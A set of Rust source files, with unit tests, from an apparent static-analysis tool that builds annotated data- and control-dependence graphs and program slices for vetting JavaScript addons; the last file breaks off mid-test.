        if let Some(&v) = self.overlap.get(&key) {
            return v;
        }
        let la = &self.locs[a as usize];
        let lb = &self.locs[b as usize];
        let v = la.overlaps(lb)
            || (self.canonical(la.site) == self.canonical(lb.site)
                && !matches!(
                    jsdomains::MeetLattice::meet(&la.prop, &lb.prop),
                    jsdomains::Pre::Bot
                ));
        self.overlap.insert(key, v);
        v
    }
}

/// The per-node dataflow fact: definition -> pristine?
/// `true` = no overlapping write seen on any path since the definition.
type Facts = BTreeMap<(StmtId, u32), bool>;

/// Builds the data-dependence edges of the PDG.
pub fn build_ddg(sg: &SuperGraph, analysis: &AnalysisResult) -> BTreeSet<DataDep> {
    let mut locs = LocTable::new(analysis.site_aliases.clone());

    // Pre-index each statement's writes and reads with interned locations.
    let mut writes: BTreeMap<StmtId, Vec<(u32, Strength)>> = BTreeMap::new();
    let mut reads: BTreeMap<StmtId, Vec<(u32, Strength)>> = BTreeMap::new();
    for (&stmt, rw) in &analysis.rw {
        let w: Vec<(u32, Strength)> = rw
            .writes
            .iter()
            .map(|(l, s)| (locs.intern(l), s))
            .collect();
        if !w.is_empty() {
            writes.insert(stmt, w);
        }
        let r: Vec<(u32, Strength)> = rw
            .reads
            .iter()
            .map(|(l, s)| (locs.intern(l), s))
            .collect();
        if !r.is_empty() {
            reads.insert(stmt, r);
        }
    }

    // Worklist reaching-definitions over the supergraph.
    let mut in_facts: HashMap<StmtId, Facts> = HashMap::new();
    let mut queue: VecDeque<StmtId> = VecDeque::new();
    let mut queued: BTreeSet<StmtId> = BTreeSet::new();
    // Seed every statement that has writes (defs originate there).
    for &s in analysis.reachable.iter() {
        queue.push_back(s);
        queued.insert(s);
    }

    let empty: Vec<(u32, Strength)> = Vec::new();
    while let Some(s) = queue.pop_front() {
        queued.remove(&s);
        let mut out: Facts = in_facts.get(&s).cloned().unwrap_or_default();
        // Kill / taint by this statement's writes.
        let my_writes = writes.get(&s).unwrap_or(&empty).clone();
        if !my_writes.is_empty() {
            let keys: Vec<(StmtId, u32)> = out.keys().copied().collect();
            for (def_stmt, def_loc) in keys {
                for (wl, ws) in &my_writes {
                    if def_stmt == s {
                        continue;
                    }
                    if *ws == Strength::Strong && *wl == def_loc {
                        out.remove(&(def_stmt, def_loc));
                        break;
                    } else if locs.overlaps(*wl, def_loc) {
                        out.insert((def_stmt, def_loc), false);
                    }
                }
            }
            // Generate this statement's own definitions (pristine).
            for (wl, _) in &my_writes {
                out.insert((s, *wl), true);
            }
        }
        // Propagate.
        for &succ in sg.succs(s) {
            let entry = in_facts.entry(succ).or_default();
            let mut changed = false;
            for (k, &pristine) in &out {
                match entry.get_mut(k) {
                    Some(p) => {
                        if *p && !pristine {
                            *p = false;
                            changed = true;
                        }
                    }
                    None => {
                        entry.insert(*k, pristine);
                        changed = true;
                    }
                }
            }
            if changed && queued.insert(succ) {
                queue.push_back(succ);
            }
        }
    }

    // Emit edges.
    let mut best: BTreeMap<(StmtId, StmtId), bool> = BTreeMap::new();
    for (&v2, rs) in &reads {
        let facts = match in_facts.get(&v2) {
            Some(f) => f,
            None => continue,
        };
        for (l2, s2) in rs {
            // Every definition whose location overlaps this read.
            let overlapping: Vec<(StmtId, u32, bool)> = facts
                .iter()
                .filter(|&(&(_, l1), _)| locs.overlaps(l1, *l2))
                .map(|(&(v1, l1), &p)| (v1, l1, p))
                .collect();
            // "The value read is definitely the value written by v1"
            // additionally requires v1's def to be the unique reaching
            // definition of the location.
            let unique = overlapping.len() == 1;
            for (v1, l1, pristine) in overlapping {
                let def_strength = writes
                    .get(&v1)
                    .and_then(|ws| ws.iter().find(|(l, _)| *l == l1))
                    .map(|(_, s)| *s)
                    .unwrap_or(Strength::Weak);
                let strong = unique
                    && pristine
                    && l1 == *l2
                    && def_strength == Strength::Strong
                    && *s2 == Strength::Strong;
                let e = best.entry((v1, v2)).or_insert(false);
                *e = *e || strong;
            }
        }
    }
    best.into_iter()
        .map(|((from, to), strong)| DataDep { from, to, strong })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use jsanalysis::{analyze, AnalysisConfig};
    use jsir::{IrStmtKind, Lowered};

    fn run(src: &str) -> (Lowered, BTreeSet<DataDep>) {
        let ast = jsparser::parse(src).unwrap();
        let lowered =
            jsir::lower_with_options(&ast, &jsir::LowerOptions { event_loop: false });
        let analysis = analyze(&lowered, &AnalysisConfig::default());
        let sg = SuperGraph::build(&lowered, &analysis);
        let ddg = build_ddg(&sg, &analysis);
        (lowered, ddg)
    }

    /// Find the statement assigning to (or storing) something recognizable.
    fn stmt_where(
        lowered: &Lowered,
        pred: impl Fn(&IrStmtKind) -> bool,
    ) -> Vec<StmtId> {
        lowered
            .program
            .stmts
            .iter()
            .filter(|s| pred(&s.kind))
            .map(|s| s.id)
            .collect()
    }

    #[test]
    fn straight_line_strong_dependence() {
        // var a = 1; var b = a;   -- copy-to-copy via `a` is strong.
        let (lowered, ddg) = run("var a = 1; var b = a;");
        let copies = stmt_where(&lowered, |k| matches!(k, IrStmtKind::Copy { .. }));
        assert_eq!(copies.len(), 2);
        let edge = ddg
            .iter()
            .find(|e| e.from == copies[0] && e.to == copies[1])
            .expect("a->b dependence");
        assert!(edge.strong, "single def, single read: datastrong");
    }

    #[test]
    fn intervening_strong_write_kills() {
        // a's first def cannot reach the read after re-assignment.
        let (lowered, ddg) = run("var a = 1; a = 2; var b = a;");
        let copies = stmt_where(&lowered, |k| matches!(k, IrStmtKind::Copy { .. }));
        assert_eq!(copies.len(), 3);
        assert!(
            !ddg.iter().any(|e| e.from == copies[0] && e.to == copies[2]),
            "killed def must not produce an edge"
        );
        assert!(ddg
            .iter()
            .any(|e| e.from == copies[1] && e.to == copies[2] && e.strong));
    }

    #[test]
    fn branch_writes_are_weak_at_merge() {
        // Both branch writes reach the read; neither is the definite one.
        let (lowered, ddg) = run(
            "var a = 0; if (Math.random() < 0.5) { a = 1; } else { a = 2; } use_global = a;",
        );
        let copies = stmt_where(&lowered, |k| matches!(k, IrStmtKind::Copy { .. }));
        // copies: a=0, a=1, a=2, use_global=a.
        let last = *copies.last().unwrap();
        let incoming: Vec<&DataDep> = ddg.iter().filter(|e| e.to == last).collect();
        assert!(incoming.len() >= 2, "both branch defs reach the use");
        assert!(
            incoming.iter().all(|e| !e.strong),
            "merged defs cannot be datastrong"
        );
    }

    #[test]
    fn object_property_strong_flow() {
        // Figure 1 lines 1-2: object literal property read back exactly.
        let (lowered, ddg) = run("var data = { url: input_global }; send_global(data.url);");
        let store = stmt_where(&lowered, |k| matches!(k, IrStmtKind::StoreProp { .. }))[0];
        let load = stmt_where(&lowered, |k| {
            matches!(k, IrStmtKind::LoadProp { prop: jsir::Operand::Str(p), .. } if p == "url")
        })[0];
        let edge = ddg
            .iter()
            .find(|e| e.from == store && e.to == load)
            .expect("store->load dependence");
        assert!(edge.strong, "exact singleton property: datastrong");
    }

    #[test]
    fn unknown_property_read_is_weak() {
        // Figure 1 line 3: data[getString()] with unknown string.
        let (lowered, ddg) = run(
            "var data = { url: input_global }; var x = data[getString_global()];",
        );
        let store = stmt_where(&lowered, |k| matches!(k, IrStmtKind::StoreProp { .. }))[0];
        let loads = stmt_where(&lowered, |k| matches!(k, IrStmtKind::LoadProp { .. }));
        let computed_load = *loads.last().unwrap();
        let edge = ddg
            .iter()
            .find(|e| e.from == store && e.to == computed_load)
            .expect("weak dependence through unknown property");
        assert!(!edge.strong);
    }

    #[test]
    fn weak_overwrite_taints_strength() {
        // A possible (conditional) overwrite of o.p downgrades the original
        // def to weak at the final read.
        let (lowered, ddg) = run(
            "var o = {}; o.p = 1; if (Math.random() < 0.5) { o.p = 2; } var r = o.p;",
        );
        let stores = stmt_where(&lowered, |k| {
            matches!(k, IrStmtKind::StoreProp { prop: jsir::Operand::Str(p), .. } if p == "p")
        });
        assert_eq!(stores.len(), 2);
        let load = *stmt_where(&lowered, |k| {
            matches!(k, IrStmtKind::LoadProp { prop: jsir::Operand::Str(p), .. } if p == "p")
        })
        .last()
        .unwrap();
        let first = ddg
            .iter()
            .find(|e| e.from == stores[0] && e.to == load)
            .expect("first store still reaches (else path)");
        // The conditional store is itself strong-on-singleton, but from the
        // first store's perspective there EXISTS a path with an overwrite.
        // Condition: strong kills apply per-path. The conditional store is a
        // strong write on a singleton object, so along the then-path the
        // first def is killed; along the else-path it survives pristine.
        // Survived on one path and killed on the other => the fact arrives
        // pristine, but not as the only def: both stores reach the load.
        let second = ddg
            .iter()
            .find(|e| e.from == stores[1] && e.to == load)
            .expect("second store reaches too");
        let _ = (first, second);
        assert!(
            !(first.strong && second.strong),
            "at most one def can be the definite one"
        );
    }

    #[test]
    fn interprocedural_argument_flow() {
        let (lowered, ddg) = run("function id(x) { return x; } var out = id(input_global);");
        // The call writes the parameter; the return reads it: an edge from
        // the call statement to the `return` statement must exist.
        let call = stmt_where(&lowered, |k| matches!(k, IrStmtKind::Call { .. }))[0];
        let result = stmt_where(&lowered, |k| matches!(k, IrStmtKind::CallResult { .. }))[0];
        let ret = stmt_where(&lowered, |k| matches!(k, IrStmtKind::Return { .. }))[0];
        assert!(
            ddg.iter().any(|e| e.from == call && e.to == ret),
            "param def at call must reach the return's read"
        );
        // The return's @ret write flows to the CallResult node (not the
        // call itself -- keeping argument and result flows separate).
        assert!(
            ddg.iter().any(|e| e.from == ret && e.to == result),
            "return value must flow to the call-result node"
        );
        assert!(
            !ddg.iter().any(|e| e.from == ret && e.to == call),
            "no conflated return-to-call edge"
        );
    }

    #[test]
    fn loop_carried_dependence() {
        let (lowered, ddg) = run(
            "var count = 0; while (Math.random() < 0.9) { count = count + 1; } var r = count;",
        );
        // count's increment BinOp depends on its own previous Copy (loop
        // carried) and the final read sees both defs weakly.
        let copies = stmt_where(&lowered, |k| matches!(k, IrStmtKind::Copy { .. }));
        let last_read = *copies.last().unwrap();
        let incoming = ddg.iter().filter(|e| e.to == last_read).count();
        assert!(incoming >= 2, "initial def and loop def both reach");
    }
}
