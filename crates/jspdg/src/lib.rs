//! Annotated Program Dependence Graphs for JavaScript addons (Section 3
//! of the paper).
//!
//! The PDG is the union of:
//!
//! - an annotated **data-dependence graph** ([`ddg`]) built by reaching
//!   definitions over the interprocedural supergraph, classifying each
//!   edge `datastrong` or `dataweak` by the paper's definite-read /
//!   definite-write / no-intervening-overwrite conditions; and
//! - an annotated **control-dependence graph** ([`cdg`]) built in the
//!   paper's four stages over successively pruned CFGs (`local`,
//!   `nonlocexp`, `nonlocimp`), with a final amplification pass that
//!   promotes edges whose source lies on a CFG cycle to `ctrl^amp`.
//!
//! # Examples
//!
//! ```
//! use jsanalysis::{analyze, AnalysisConfig};
//! use jspdg::Pdg;
//!
//! let ast = jsparser::parse("var a = 1; var b = a;")?;
//! let lowered = jsir::lower(&ast);
//! let analysis = analyze(&lowered, &AnalysisConfig::default());
//! let pdg = Pdg::build(&lowered, &analysis);
//! assert!(pdg.edges().any(|e| e.ann == jspdg::Annotation::DataStrong));
//! # Ok::<(), jsparser::ParseError>(())
//! ```

#![warn(missing_docs)]

mod annotation;
pub mod cdg;
pub mod ddg;
pub mod dot;
pub mod pdg;
pub mod postdom;
pub mod slice;
pub mod supergraph;

pub use annotation::{Annotation, CtrlKind};
pub use cdg::{build_cdg, CtrlDep};
pub use ddg::{build_ddg, DataDep};
pub use dot::{cfg_to_dot, pdg_to_dot};
pub use pdg::{Pdg, PdgEdge};
pub use slice::{backward_slice, chop, forward_slice, witness_path, SliceFilter};
pub use supergraph::SuperGraph;
