//! Postdominator trees and Ferrante-Ottenstein-Warren control dependence.
//!
//! Used by the staged CDG construction of Section 3.3. Operates on a
//! per-function subgraph of the global CFG.

use jsir::{Cfg, StmtId};
use std::collections::{BTreeMap, BTreeSet};

/// A per-function view: the function's statements and its exit node.
#[derive(Debug, Clone)]
pub struct FuncGraph {
    /// Statements belonging to the function.
    pub nodes: Vec<StmtId>,
    /// The function's entry.
    pub entry: StmtId,
    /// The function's unique exit.
    pub exit: StmtId,
}

/// The immediate-postdominator tree of one function's CFG.
#[derive(Debug, Clone)]
pub struct PostDominators {
    ipdom: BTreeMap<StmtId, StmtId>,
    exit: StmtId,
}

impl PostDominators {
    /// Immediate postdominator of `n` (`None` for the exit itself or for
    /// nodes with no path to the exit).
    pub fn ipdom(&self, n: StmtId) -> Option<StmtId> {
        if n == self.exit {
            None
        } else {
            self.ipdom.get(&n).copied()
        }
    }

    /// True if `a` postdominates `b` (reflexive).
    pub fn postdominates(&self, a: StmtId, b: StmtId) -> bool {
        let mut cur = Some(b);
        while let Some(n) = cur {
            if n == a {
                return true;
            }
            cur = self.ipdom(n);
        }
        false
    }
}

/// Computes postdominators of the function subgraph of `cfg` restricted to
/// edges `keep`, using the iterative Cooper-Harvey-Kennedy algorithm on
/// the reverse graph.
///
/// Nodes that cannot reach the exit under `keep` (dead ends created by
/// pruning -- e.g. a `throw` whose outgoing edge was pruned -- or
/// genuinely infinite loops) have no postdominators; paths through them
/// never reach the exit and therefore do not constrain postdominance.
/// This is what makes the staged construction work: in the local-only
/// CFG a pruned `throw` terminates its path, so statements after the
/// `try` are *not* control dependent on a guard whose only escaping path
/// is the throw.
pub fn postdominators(
    cfg: &Cfg,
    func: &FuncGraph,
    keep: impl Fn(jsir::EdgeKind) -> bool,
) -> PostDominators {
    let in_func: BTreeSet<StmtId> = func.nodes.iter().copied().collect();
    // Successor lists under the filter, restricted to exit-reaching nodes.
    let mut succs: BTreeMap<StmtId, Vec<StmtId>> = BTreeMap::new();
    for &n in &func.nodes {
        let list: Vec<StmtId> = cfg
            .succs(n)
            .iter()
            .filter(|(t, k)| keep(*k) && in_func.contains(t))
            .map(|(t, _)| *t)
            .collect();
        succs.insert(n, list);
    }
    // Backward reachability from the exit; drop everything else.
    let reaches = exit_reaching(&succs, func.exit);
    for (_, list) in succs.iter_mut() {
        list.retain(|t| reaches.contains(t));
    }
    succs.retain(|n, _| reaches.contains(n));

    // Reverse post-order on the REVERSE graph starting at exit.
    let mut preds: BTreeMap<StmtId, Vec<StmtId>> = BTreeMap::new();
    for (&n, list) in &succs {
        for &t in list {
            preds.entry(t).or_default().push(n);
        }
    }
    let mut order: Vec<StmtId> = Vec::new();
    let mut seen: BTreeSet<StmtId> = BTreeSet::new();
    // Iterative DFS post-order from exit over reverse edges.
    let mut stack: Vec<(StmtId, usize)> = vec![(func.exit, 0)];
    seen.insert(func.exit);
    while let Some((n, i)) = stack.pop() {
        let ps = preds.get(&n).cloned().unwrap_or_default();
        if i < ps.len() {
            stack.push((n, i + 1));
            let p = ps[i];
            if seen.insert(p) {
                stack.push((p, 0));
            }
        } else {
            order.push(n);
        }
    }
    order.reverse(); // reverse post-order: exit first

    let index: BTreeMap<StmtId, usize> = order
        .iter()
        .enumerate()
        .map(|(i, &n)| (n, i))
        .collect();

    let mut ipdom: BTreeMap<StmtId, StmtId> = BTreeMap::new();
    ipdom.insert(func.exit, func.exit);
    let mut changed = true;
    while changed {
        changed = false;
        for &n in order.iter().skip(1) {
            // Intersect over processed successors (reverse-graph preds).
            let mut new_idom: Option<StmtId> = None;
            for &s in succs.get(&n).into_iter().flatten() {
                if ipdom.contains_key(&s) {
                    new_idom = Some(match new_idom {
                        None => s,
                        Some(cur) => intersect(&ipdom, &index, cur, s),
                    });
                }
            }
            if let Some(nd) = new_idom {
                if ipdom.get(&n) != Some(&nd) {
                    ipdom.insert(n, nd);
                    changed = true;
                }
            }
        }
    }
    ipdom.remove(&func.exit);
    PostDominators {
        ipdom,
        exit: func.exit,
    }
}

/// Nodes with a path to `exit` in the given adjacency.
pub(crate) fn exit_reaching(
    succs: &BTreeMap<StmtId, Vec<StmtId>>,
    exit: StmtId,
) -> BTreeSet<StmtId> {
    let mut preds: BTreeMap<StmtId, Vec<StmtId>> = BTreeMap::new();
    for (&n, list) in succs {
        for &t in list {
            preds.entry(t).or_default().push(n);
        }
    }
    let mut reaches = BTreeSet::new();
    let mut stack = vec![exit];
    while let Some(n) = stack.pop() {
        if reaches.insert(n) {
            if let Some(ps) = preds.get(&n) {
                stack.extend(ps.iter().copied());
            }
        }
    }
    reaches
}

fn intersect(
    ipdom: &BTreeMap<StmtId, StmtId>,
    index: &BTreeMap<StmtId, usize>,
    mut a: StmtId,
    mut b: StmtId,
) -> StmtId {
    // Walk up toward the exit (smaller index = closer to exit in RPO of
    // the reverse graph).
    while a != b {
        let (ia, ib) = (index[&a], index[&b]);
        if ia > ib {
            a = ipdom[&a];
        } else {
            b = ipdom[&b];
        }
    }
    a
}

/// Control-dependence edges of one function under the edge filter `keep`:
/// `u -> w` iff `w`'s execution is controlled by `u` (FOW construction:
/// for each CFG edge `(u, v)` where `v` does not postdominate `u`, every
/// node from `v` up the postdominator tree to -- but excluding -- `u`'s
/// immediate postdominator is control dependent on `u`).
pub fn control_dependence(
    cfg: &Cfg,
    func: &FuncGraph,
    keep: impl Fn(jsir::EdgeKind) -> bool + Copy,
) -> BTreeSet<(StmtId, StmtId)> {
    let pd = postdominators(cfg, func, keep);
    let in_func: BTreeSet<StmtId> = func.nodes.iter().copied().collect();
    // Recompute the filtered adjacency + exit-reaching set for trapped
    // regions (nodes with no path to the exit under this filter).
    let mut succs: BTreeMap<StmtId, Vec<StmtId>> = BTreeMap::new();
    for &n in &func.nodes {
        let list: Vec<StmtId> = cfg
            .succs(n)
            .iter()
            .filter(|(t, k)| keep(*k) && in_func.contains(t))
            .map(|(t, _)| *t)
            .collect();
        succs.insert(n, list);
    }
    let reaches = exit_reaching(&succs, func.exit);

    let mut out = BTreeSet::new();
    for &u in &func.nodes {
        for (v, k) in cfg.succs(u) {
            if !keep(*k) || !in_func.contains(v) {
                continue;
            }
            if !reaches.contains(v) {
                // Trapped region: everything reachable from v without
                // escaping to the exit is control dependent on u.
                let mut stack = vec![*v];
                let mut seen = BTreeSet::new();
                while let Some(n) = stack.pop() {
                    if !seen.insert(n) || reaches.contains(&n) {
                        continue;
                    }
                    if n != u {
                        out.insert((u, n));
                    }
                    stack.extend(succs.get(&n).into_iter().flatten().copied());
                }
                continue;
            }
            if pd.postdominates(*v, u) && *v != u {
                continue;
            }
            // Walk from v up to ipdom(u), exclusive.
            let stop = pd.ipdom(u);
            let mut cur = Some(*v);
            while let Some(n) = cur {
                if Some(n) == stop {
                    break;
                }
                out.insert((u, n));
                cur = pd.ipdom(n);
                if cur == Some(n) {
                    break;
                }
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use jsir::EdgeKind;

    fn s(n: u32) -> StmtId {
        StmtId(n)
    }

    /// Diamond: 0 -> 1 -> {2,3} -> 4 -> 5(exit)
    fn diamond() -> (Cfg, FuncGraph) {
        let mut g = Cfg::with_capacity(6);
        g.add_edge(s(0), s(1), EdgeKind::Seq);
        g.add_edge(s(1), s(2), EdgeKind::BranchTrue);
        g.add_edge(s(1), s(3), EdgeKind::BranchFalse);
        g.add_edge(s(2), s(4), EdgeKind::Seq);
        g.add_edge(s(3), s(4), EdgeKind::Seq);
        g.add_edge(s(4), s(5), EdgeKind::Seq);
        let f = FuncGraph {
            nodes: (0..6).map(s).collect(),
            entry: s(0),
            exit: s(5),
        };
        (g, f)
    }

    #[test]
    fn diamond_postdominators() {
        let (g, f) = diamond();
        let pd = postdominators(&g, &f, |_| true);
        assert_eq!(pd.ipdom(s(2)), Some(s(4)));
        assert_eq!(pd.ipdom(s(3)), Some(s(4)));
        assert_eq!(pd.ipdom(s(1)), Some(s(4)));
        assert_eq!(pd.ipdom(s(4)), Some(s(5)));
        assert!(pd.postdominates(s(4), s(1)));
        assert!(!pd.postdominates(s(2), s(1)));
        assert!(pd.postdominates(s(5), s(0)));
    }

    #[test]
    fn diamond_control_dependence() {
        let (g, f) = diamond();
        let cd = control_dependence(&g, &f, |_| true);
        assert!(cd.contains(&(s(1), s(2))));
        assert!(cd.contains(&(s(1), s(3))));
        assert!(!cd.contains(&(s(1), s(4))), "join point not dependent");
        assert!(!cd.contains(&(s(0), s(1))), "straight line not dependent");
    }

    #[test]
    fn loop_control_dependence() {
        // 0 -> 1(branch) -T-> 2 -> 1 ; 1 -F-> 3(exit)
        let mut g = Cfg::with_capacity(4);
        g.add_edge(s(0), s(1), EdgeKind::Seq);
        g.add_edge(s(1), s(2), EdgeKind::BranchTrue);
        g.add_edge(s(2), s(1), EdgeKind::Seq);
        g.add_edge(s(1), s(3), EdgeKind::BranchFalse);
        let f = FuncGraph {
            nodes: (0..4).map(s).collect(),
            entry: s(0),
            exit: s(3),
        };
        let cd = control_dependence(&g, &f, |_| true);
        assert!(cd.contains(&(s(1), s(2))), "body depends on loop test");
        assert!(cd.contains(&(s(1), s(1))), "loop test depends on itself");
    }

    #[test]
    fn infinite_loop_has_no_postdominators_but_terminates() {
        // 0 -> 1 -> 2 -> 1, exit 3 disconnected: the whole region is
        // trapped; postdominance is undefined there but computation must
        // terminate and control dependence must still cover the region.
        let mut g = Cfg::with_capacity(4);
        g.add_edge(s(0), s(1), EdgeKind::Seq);
        g.add_edge(s(1), s(2), EdgeKind::Seq);
        g.add_edge(s(2), s(1), EdgeKind::Seq);
        let f = FuncGraph {
            nodes: (0..4).map(s).collect(),
            entry: s(0),
            exit: s(3),
        };
        let pd = postdominators(&g, &f, |_| true);
        assert!(!pd.postdominates(s(3), s(0)), "exit is unreachable");
        // Trapped nodes become control dependent on their entry edge.
        let cd = control_dependence(&g, &f, |_| true);
        assert!(cd.contains(&(s(0), s(1))));
        assert!(cd.contains(&(s(0), s(2))));
    }

    #[test]
    fn pruned_graph_control_dependence_changes() {
        // try { if (c) throw; x; } pruned vs full:
        // 0 -> 1(branch) -T-> 2(throw) ; 1 -F-> 3(x) -> 4(exit)
        // full: 2 -> 5(catch) -> 4 ; pruned(local only): 2 dead-ends.
        let mut g = Cfg::with_capacity(6);
        g.add_edge(s(0), s(1), EdgeKind::Seq);
        g.add_edge(s(1), s(2), EdgeKind::BranchTrue);
        g.add_edge(s(1), s(3), EdgeKind::BranchFalse);
        g.add_edge(s(2), s(5), EdgeKind::ThrowExplicit);
        g.add_edge(s(5), s(4), EdgeKind::Seq);
        g.add_edge(s(3), s(4), EdgeKind::Seq);
        let f = FuncGraph {
            nodes: (0..6).map(s).collect(),
            entry: s(0),
            exit: s(4),
        };
        let local_only = control_dependence(&g, &f, |k| k.is_local());
        let with_explicit =
            control_dependence(&g, &f, |k| k.is_local() || k.is_nonlocal_explicit());
        // With the throw edge, x (node 3) is control dependent on the
        // branch; statements after the throw landing differ between the
        // two stages.
        assert!(with_explicit.contains(&(s(1), s(3))));
        // The difference set is what stage 2 annotates nonlocexp.
        let diff: Vec<_> = with_explicit.difference(&local_only).collect();
        assert!(!diff.is_empty());
    }
}

#[cfg(all(test, feature = "fuzz"))]
mod proptests {
    use super::*;
    use jsir::EdgeKind;
    use minicheck::Gen;

    /// Random small graphs over nodes 0..n with designated entry 0 and
    /// exit n-1.
    fn arb_graph(g: &mut Gen) -> (Cfg, FuncGraph) {
        let n = 3 + g.below(6);
        let mut cfg = Cfg::with_capacity(n);
        // A spine so the exit is usually reachable.
        for i in 0..n - 1 {
            cfg.add_edge(StmtId(i as u32), StmtId(i as u32 + 1), EdgeKind::Seq);
        }
        for _ in 0..g.below(n * 2) {
            let (a, b) = (g.below(n), g.below(n));
            if a != b {
                cfg.add_edge(StmtId(a as u32), StmtId(b as u32), EdgeKind::Seq);
            }
        }
        let f = FuncGraph {
            nodes: (0..n as u32).map(StmtId).collect(),
            entry: StmtId(0),
            exit: StmtId(n as u32 - 1),
        };
        (cfg, f)
    }

    /// Brute force: does every path from `from` to the exit pass through
    /// `through`? (Checked by deleting `through` and testing
    /// reachability.)
    fn postdominates_brute(
        cfg: &Cfg,
        f: &FuncGraph,
        through: StmtId,
        from: StmtId,
    ) -> bool {
        if through == from {
            return true;
        }
        // Can `from` reach exit at all? If not, postdominance is vacuous
        // and our implementation leaves such nodes out; skip via caller.
        let mut seen = std::collections::BTreeSet::new();
        let mut stack = vec![from];
        let mut reached_exit_avoiding = false;
        while let Some(x) = stack.pop() {
            if x == through {
                continue; // deleted node
            }
            if !seen.insert(x) {
                continue;
            }
            if x == f.exit {
                reached_exit_avoiding = true;
                break;
            }
            for (t, _) in cfg.succs(x) {
                stack.push(*t);
            }
        }
        !reached_exit_avoiding
    }

    /// Exit-reachability for the brute-force comparison.
    fn reaches_exit(cfg: &Cfg, f: &FuncGraph, from: StmtId) -> bool {
        let mut seen = std::collections::BTreeSet::new();
        let mut stack = vec![from];
        while let Some(x) = stack.pop() {
            if !seen.insert(x) {
                continue;
            }
            if x == f.exit {
                return true;
            }
            for (t, _) in cfg.succs(x) {
                stack.push(*t);
            }
        }
        false
    }

    #[test]
    fn ipdom_agrees_with_brute_force() {
        minicheck::check("ipdom_agrees_with_brute_force", 256, |gen| {
            let (g, f) = arb_graph(gen);
            let pd = postdominators(&g, &f, |_| true);
            for &n in &f.nodes {
                if !reaches_exit(&g, &f, n) {
                    continue;
                }
                for &m in &f.nodes {
                    if !reaches_exit(&g, &f, m) {
                        continue;
                    }
                    let ours = pd.postdominates(m, n);
                    let truth = postdominates_brute(&g, &f, m, n);
                    assert_eq!(ours, truth, "postdominates({m:?}, {n:?}) mismatch");
                }
            }
        });
    }

    #[test]
    fn control_dependence_terminates_and_is_within_nodes() {
        minicheck::check(
            "control_dependence_terminates_and_is_within_nodes",
            256,
            |gen| {
                let (g, f) = arb_graph(gen);
                for filter in [true, false] {
                    let cd = control_dependence(&g, &f, move |k: EdgeKind| {
                        filter || k.is_local()
                    });
                    for (u, w) in cd {
                        assert!(f.nodes.contains(&u));
                        assert!(f.nodes.contains(&w));
                    }
                }
            },
        );
    }
}
