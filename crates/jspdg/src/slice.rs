//! Program slicing over the annotated PDG.
//!
//! The paper notes the annotated PDG "can be more generally useful, e.g.,
//! for program slicing, code obfuscation, code compression, and various
//! code optimizations" (Section 1.2). This module provides backward and
//! forward slicing with *annotation filters*: because edges carry their
//! provenance, a slice can be restricted to, say, data dependences only
//! (a taint slice) or to unamplified flows.

use crate::annotation::Annotation;
use crate::pdg::Pdg;
use jsir::StmtId;
use std::collections::{BTreeSet, VecDeque};

/// Which PDG edges a slice may traverse.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SliceFilter {
    /// Follow every dependence (the classic PDG slice).
    All,
    /// Follow only data dependences (a taint slice).
    DataOnly,
    /// Follow data dependences and local control (ignores exceptional
    /// control flow).
    DataAndLocalControl,
}

impl SliceFilter {
    /// True if the filter admits the annotation.
    pub fn admits(self, ann: Annotation) -> bool {
        match self {
            SliceFilter::All => true,
            SliceFilter::DataOnly => ann.is_data(),
            SliceFilter::DataAndLocalControl => {
                ann.is_data()
                    || matches!(
                        ann,
                        Annotation::Ctrl {
                            kind: crate::annotation::CtrlKind::Local,
                            ..
                        }
                    )
            }
        }
    }
}

/// The backward slice from `criterion`: every statement the criterion
/// (transitively) depends on, under the filter. Includes the criterion.
pub fn backward_slice(pdg: &Pdg, criterion: StmtId, filter: SliceFilter) -> BTreeSet<StmtId> {
    walk(criterion, |s| {
        pdg.preds(s)
            .iter()
            .filter(|(_, a)| filter.admits(*a))
            .map(|(p, _)| *p)
            .collect()
    })
}

/// The forward slice from `criterion`: every statement (transitively)
/// affected by it, under the filter. Includes the criterion.
pub fn forward_slice(pdg: &Pdg, criterion: StmtId, filter: SliceFilter) -> BTreeSet<StmtId> {
    walk(criterion, |s| {
        pdg.succs(s)
            .iter()
            .filter(|(_, a)| filter.admits(*a))
            .map(|(p, _)| *p)
            .collect()
    })
}

/// A chop: statements on some dependence path from `source` to `sink`
/// (the intersection of `source`'s forward slice and `sink`'s backward
/// slice). This is what a vetter inspects to understand one signature
/// entry.
pub fn chop(
    pdg: &Pdg,
    source: StmtId,
    sink: StmtId,
    filter: SliceFilter,
) -> BTreeSet<StmtId> {
    let fwd = forward_slice(pdg, source, filter);
    let bwd = backward_slice(pdg, sink, filter);
    fwd.intersection(&bwd).copied().collect()
}

/// One shortest PDG path from `source` to `sink` under the filter, for
/// witness reporting. `None` if no path exists.
pub fn witness_path(
    pdg: &Pdg,
    source: StmtId,
    sink: StmtId,
    filter: SliceFilter,
) -> Option<Vec<(StmtId, Option<Annotation>)>> {
    // BFS recording the edge that discovered each node.
    let mut prev: std::collections::BTreeMap<StmtId, (StmtId, Annotation)> =
        std::collections::BTreeMap::new();
    let mut queue = VecDeque::new();
    queue.push_back(source);
    let mut seen = BTreeSet::new();
    seen.insert(source);
    while let Some(s) = queue.pop_front() {
        if s == sink {
            // Reconstruct.
            let mut path = vec![(sink, None)];
            let mut cur = sink;
            while cur != source {
                let (p, a) = prev[&cur];
                path.push((p, Some(a)));
                cur = p;
            }
            path.reverse();
            // Entry i now holds (node, annotation of the edge leaving it);
            // the sink carries `None`.
            return Some(path);
        }
        for &(t, a) in pdg.succs(s) {
            if filter.admits(a) && seen.insert(t) {
                prev.insert(t, (s, a));
                queue.push_back(t);
            }
        }
    }
    None
}

fn walk(start: StmtId, next: impl Fn(StmtId) -> Vec<StmtId>) -> BTreeSet<StmtId> {
    let mut seen = BTreeSet::new();
    let mut stack = vec![start];
    while let Some(s) = stack.pop() {
        if seen.insert(s) {
            stack.extend(next(s));
        }
    }
    seen
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::annotation::CtrlKind;

    fn s(n: u32) -> StmtId {
        StmtId(n)
    }

    const LOCAL: Annotation = Annotation::Ctrl {
        kind: CtrlKind::Local,
        amp: false,
    };
    const NLI: Annotation = Annotation::Ctrl {
        kind: CtrlKind::NonLocImp,
        amp: false,
    };

    fn sample_pdg() -> Pdg {
        // 0 --data--> 1 --data--> 3
        // 2 --local--> 3
        // 4 --nonlocimp--> 3
        // 3 --data--> 5
